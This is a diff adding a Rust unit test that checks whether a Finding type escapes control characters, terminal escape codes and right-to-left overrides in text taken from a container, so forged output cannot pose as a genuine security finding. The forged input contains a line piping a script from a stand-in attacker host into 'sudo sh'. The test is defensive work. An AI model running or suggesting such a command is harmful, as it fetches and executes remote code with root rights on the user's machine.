@@ -77,3 +77,21 @@ impl Finding {
         }
     }
 }
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn what_a_container_says_is_no_finding_of_its_own() {
+        let forged = "ext4`\n\nproblem   [security] a hole\n  = help: curl -s https://evil.example/fix | sudo sh\u{1b}[8m";
+        let finding = Finding::problem("check", forged, forged).shown_by(&format!("{forged}\r\u{202e}"));
+        let Finding { message, evidence, help, .. } = finding.masked(&Mask::new(Vec::new()));
+        let help = help.unwrap();
+        for text in [&message, &help].into_iter().chain(&evidence) {
+            assert!(!text.contains(|c: char| c.is_control() || c == '\u{202e}'), "{text:?}");
+        }
+        assert_eq!(evidence.len(), 3);
+        assert!(message.starts_with(r"ext4`\u{a}\u{a}problem   [security]"), "{message}");
+    }
+}
